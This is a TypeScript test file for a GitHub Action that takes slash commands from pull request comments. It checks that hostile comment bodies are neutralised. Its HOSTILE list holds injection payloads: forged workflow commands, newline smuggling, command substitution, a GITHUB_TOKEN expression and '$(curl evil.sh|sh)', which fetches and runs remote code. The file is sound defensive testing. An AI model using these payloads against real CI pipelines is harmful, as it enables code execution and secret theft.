import { describe, expect, it } from 'vitest'
import { useFakeGitHub } from '../fakes/github/use-fake-github.js'
import { stickyMarker } from '../../shared/report/targets.js'
import { commentEvent, postComment, runRouter } from './support.js'

const POLICY = `version: 1
environments:
  production:
    traffic: { provider: command, setWeight: [./set-weight.sh, "{{weight}}"] }
    steps: [ { weight: 10 }, { weight: 100 } ]
`

const HOSTILE = [
  '/rollgate promote production ::set-output name=command::promote',
  '/rollgate rollback production --reason "::error::forged %0A::add-mask::x"',
  '/rollgate rollback production --reason "a%0A::set-output name=environment::staging"',
  '/rollgate promote production\r\n::stop-commands::token',
  '/rollgate promote $(curl evil.sh|sh)',
  '/rollgate rollback production --reason "`id` $(id) ${{ secrets.GITHUB_TOKEN }}"',
  '/rollgate rollback production --reason "<!-- rollgate:production --> @octocat #1 <img src=x>"',
  '<!-- rollgate:production -->\n/rollgate promte production',
]

// The first event of a file compiles GitHub's webhook schema (test/commands/support.ts): well over
// the default 20 s on a loaded two-core runner, so these tests get longer.
describe('hostile comment bodies', { timeout: 120_000 }, () => {
  const github = useFakeGitHub()

  it.each(HOSTILE)('%j: no workflow command forged, no marker spoofed, nothing dispatched but a clean command', async (body) => {
    github.state.commitFiles({ branch: 'main', files: { '.github/rollgate.yml': POLICY } })
    const pull = github.state.seedPull({ head: 'feature' })
    github.state.permissions.set('maria', 'admin')
    const commentId = await postComment(github, pull.number, body)
    const run = await runRouter(github, commentEvent({ github, body, login: 'maria', pr: pull.number, commentId }))
    // No log line the runner could read as a workflow command, and outputs hold no line breaks.
    for (const line of run.io.logs) expect(line).not.toMatch(/^\s*::/m)
    for (const value of Object.values(run.outputs)) expect(value).not.toMatch(/[\r\n]/)
    // Only a reason with safe text is dispatched; the reason travels as JSON, never as a command.
    if (run.outputs['command']) {
      expect(['promote', 'rollback']).toContain(run.outputs['command'])
      expect(run.outputs['environment']).toBe('production')
      expect(() => JSON.parse(run.outputs['args'] as string)).not.toThrow()
    }
    const replies = github.state.comments.filter((c) => c.comment.id > commentId).map((c) => c.comment.body ?? '')
    for (const reply of replies) {
      // The sticky-comment lookup reads a marker at the start of a comment; user text sits in code spans.
      expect(reply.trimStart().startsWith('<!--')).toBe(false)
      const outsideCode = reply.replace(/(`+)[\s\S]*?\1/g, '')
      expect(outsideCode).not.toContain(stickyMarker('production'))
      expect(outsideCode).not.toContain('<!--')
      expect(outsideCode).not.toMatch(/@octocat/)
      expect(outsideCode).not.toMatch(/#1\b/)
      expect(outsideCode).not.toContain('<img')
    }
  })
})
